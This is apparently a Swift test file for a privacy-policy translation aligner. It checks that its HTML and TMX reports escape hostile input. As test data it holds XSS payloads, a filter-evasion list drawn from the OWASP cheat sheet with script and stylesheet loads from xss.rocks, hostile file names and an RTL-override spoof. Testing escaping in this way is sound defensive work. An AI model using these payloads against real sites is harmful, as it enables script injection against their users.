import Foundation
#if canImport(FoundationXML)
import FoundationXML
#endif
import XCTest
@testable import PolicyAlignKit

/// Reporters on a hostile policy: every piece of policy text is escaped, findings are marked.
final class ReportTests: XCTestCase {
    static func hostileAlignment() throws -> PolicyAlignment {
        let analyzer = Fixtures.analyzer()
        let source = try analyzer.analyze(path: Fixtures.path("Tests/Fixtures/hostile/en.txt"), language: "en")
        let target = try analyzer.analyze(path: Fixtures.path("Tests/Fixtures/hostile/ms.txt"), language: "ms")
        return try PolicyAligner(lexicons: Fixtures.lexicons).align(source: source, target: target)
    }

    func testHTMLEscapesPolicyText() throws {
        let alignment = try Self.hostileAlignment()
        let html = AlignmentHTMLReporter(generated: Date(timeIntervalSince1970: 0)).render(alignment)
        XCTAssertFalse(html.contains("<script"), "no script element from policy text")
        XCTAssertFalse(html.contains("<img"), "no img element from policy text")
        XCTAssertFalse(html.contains("<b "), "no markup from policy text")
        XCTAssertTrue(html.contains("&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;"))
        XCTAssertTrue(html.contains("&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"))
        XCTAssertTrue(html.contains("Content-Security-Policy"))
        XCTAssertTrue(html.contains("default-src 'none'"))
        XCTAssertTrue(html.contains("<mark class=\"untranslated\""), "the English sentence is highlighted")
        XCTAssertTrue(html.contains("<mark class=\"fact\""), "7 years against 5 tahun is highlighted")
    }

    func testRightToLeftColumns() throws {
        let analyzer = Fixtures.analyzer()
        let source = try analyzer.analyze(path: Fixtures.path("Corpus/kasperek-optical/en.txt"))
        let target = try analyzer.analyze(path: Fixtures.path("Corpus/kasperek-optical/ar.txt"))
        let html = AlignmentHTMLReporter().render(try PolicyAligner(lexicons: Fixtures.lexicons).align(source: source, target: target))
        XCTAssertTrue(html.contains("lang=\"ar\" dir=\"rtl\""))
        XCTAssertTrue(html.contains("lang=\"en\" dir=\"ltr\""))
    }

    /// Spans in the other direction and placeables are isolated; the text's own direction is not.
    func testHTMLBidiIsolatesSpansAndPlaceables() {
        XCTAssertEqual(HTML.bidi("نستخدم Google Analytics لجمع", direction: "rtl"), "نستخدم <bdi>Google Analytics</bdi> لجمع")
        XCTAssertEqual(HTML.bidi("راسلنا على privacy@example.com.", direction: "rtl"), "راسلنا على <bdi>privacy@example.com</bdi>.")
        XCTAssertEqual(HTML.bidi("يرجى زيارة https://example.com/a?b=1&c=2، شكرا", direction: "rtl"),
                       "يرجى زيارة <bdi>https://example.com/a?b=1&amp;c=2</bdi>، شكرا")
        XCTAssertEqual(HTML.bidi("خلال 12 شهرًا أو ٢٤ شهرًا", direction: "rtl"), "خلال <bdi>12</bdi> شهرًا أو <bdi>٢٤</bdi> شهرًا")
        XCTAssertEqual(HTML.bidi("We call it שלום עולם in 2024.", direction: "ltr"), "We call it <bdi>שלום עולם</bdi> in 2024.")
        XCTAssertEqual(HTML.bidi("Write to privacy@example.com or see https://example.com.", direction: "ltr"),
                       "Write to <bdi>privacy@example.com</bdi> or see <bdi>https://example.com</bdi>.")
        XCTAssertEqual(HTML.bidi("Still in English.", direction: "rtl"), "<bdi>Still in English.</bdi>", "a clause wholly in the other direction")
        XCTAssertEqual(HTML.bidi("صفحة (1) من 3", direction: "ltr"), "<bdi>صفحة (<bdi>1</bdi>) من <bdi>3</bdi></bdi>", "numbers inside right-to-left text")
        let hostile = HTML.bidi("مرحبا <script>alert(\"x\")</script> \u{202E}txt.exe", direction: "rtl")
        XCTAssertFalse(hostile.contains("<script"), hostile)
        XCTAssertTrue(hostile.contains("&#x202e;"), hostile)
        XCTAssertEqual(HTML.message("The translation gives “٥ سنوات” where the original gives “<7 years>”"),
                       "The translation gives “<bdi>٥ سنوات</bdi>” where the original gives “<bdi>&lt;7 years&gt;</bdi>”")
        XCTAssertEqual(HTML.isolate("a&b/ar.txt"), "<bdi>a&amp;b/ar.txt</bdi>")
    }

    func testTMXIsWellFormedXMLWithBothLanguages() throws {
        let tmx = TMXReporter(generated: Date(timeIntervalSince1970: 0)).render(try Self.hostileAlignment())
        XCTAssertTrue(tmx.contains("segtype=\"sentence\""))
        XCTAssertTrue(tmx.contains("creationtool=\"policyalign\""))
        XCTAssertTrue(tmx.contains("<tuv xml:lang=\"ms\">"))
        XCTAssertTrue(tmx.contains("&lt;script&gt;"))
        let parser = XMLParser(data: Data(tmx.utf8))
        XCTAssertTrue(parser.parse(), "\(parser.parserError.map { "\($0)" } ?? "")")
    }

    func testFactsAndUntranslatedOnTheHostilePair() throws {
        let alignment = try Self.hostileAlignment()
        XCTAssertEqual(alignment.facts.map { "\($0.status.rawValue) \($0.source?.value ?? "-") \($0.target?.value ?? "-")" },
                       ["mismatch 7 year 5 year"])
        XCTAssertEqual(alignment.untranslated.map(\.startLine), [6])
        XCTAssertEqual(alignment.sectionPairs.filter { $0.source != nil && $0.target != nil }.count, 4)
    }

    /// XSS filter-evasion payloads (after the OWASP cheat sheet) in headings, body text and
    /// file names all come out as text.
    func testFilterEvasionPayloadsRenderAsText() throws {
        let payloads = [
            "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
            "<IMG SRC=\"javascript:alert('XSS');\">",
            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
            "<svg/onload=alert('XSS')>",
            "<BODY ONLOAD=alert('XSS')>",
            "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
            "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
            "';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//--></SCRIPT>\">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
            "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        ]
        var english = "Privacy Policy\nThis policy explains how we collect and use your personal data.\n"
        var malay = "Dasar Privasi\nDasar ini menerangkan cara kami mengumpul dan menggunakan data peribadi anda.\n"
        for (index, payload) in payloads.enumerated() {
            english += "\(index + 1). Section \(payload)\nWe collect data \(payload) about you and keep it safe.\n"
            malay += "\(index + 1). Bahagian \(payload)\nKami mengumpul data \(payload) tentang anda dan menyimpannya dengan selamat.\n"
        }
        let analyzer = Fixtures.analyzer()
        let source = try analyzer.analyze(Fixtures.analyzer().reader.read(bytes: Array(english.utf8), file: "<svg onload=alert(1)>.txt"), language: "en")
        let target = try analyzer.analyze(analyzer.reader.read(bytes: Array(malay.utf8), file: "\"><script>alert(2)</script>.txt"), language: "ms")
        let alignment = try PolicyAligner(lexicons: Fixtures.lexicons).align(source: source, target: target)
        let report = ParityReport(reference: source, alignments: [alignment], taxonomy: Fixtures.lexicons.taxonomy)
        for html in [AlignmentHTMLReporter().render(alignment), ParityHTMLReporter().render(report)] {
            let lowered = html.lowercased()
            for element in ["<script", "<img", "<svg", "<iframe", "<body onload", "<meta http-equiv=\"refresh", "<a href=\"jav", "<style>@import"] {
                XCTAssertFalse(lowered.contains(element), "\(element) made it into the report as markup")
            }
            XCTAssertTrue(html.contains("&lt;svg onload=alert(1)&gt;.txt"), "the file name shows as text")
        }
    }
}
